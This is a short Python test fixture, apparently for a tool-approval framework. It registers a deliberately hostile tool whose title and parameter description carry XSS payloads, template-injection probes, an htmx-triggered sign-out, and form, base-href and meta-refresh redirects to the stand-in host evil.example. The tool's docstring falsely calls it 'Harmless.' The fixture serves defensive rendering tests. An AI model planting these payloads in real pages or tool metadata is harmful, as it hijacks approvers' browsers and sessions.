"""Tools whose author, callers and arguments want to run something in an approver's browser."""

from typing import Annotated

from pydantic import Field

from gatepost import CallContext, Pack

OWNED = "document.title='owned'"
MARKUP = (
    f"</textarea></script></title><script>{OWNED}</script>"
    f'"><img src=x onerror="{OWNED}"><svg/onload="{OWNED}">'
    f"' onfocus='{OWNED}' autofocus x='"
    f'<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>'
    f'<a href="javascript:{OWNED}" id="lure">x</a>'
    f'<div hx-get="/dashboard/sign-out" hx-trigger="load" hx-on:htmx:load="{OWNED}"></div>'
    f'<form id=hijack action="https://evil.example"></form><base href="https://evil.example/">'
    "<style>*{display:none}</style><meta http-equiv=refresh content='0;url=//evil.example'>"
    "{{ 7777 * 7777 }}{% raw %}${7777*7777}\u202e\u0000"
)
"""Everything that has been markup, script or a template somewhere."""

pack = Pack("hostile")


@pack.tool(
    title=MARKUP.replace("\u0000", ""),
    scopes={"hostile:write"},
    read_only=False,
    destructive=True,
    approval=True,
)
async def hostile(
    ctx: CallContext,
    text: Annotated[str, Field(description=MARKUP)],
    more: Annotated[dict[str, str], Field(description="Names are hostile as well.")],
) -> str:
    """Harmless."""
    return text
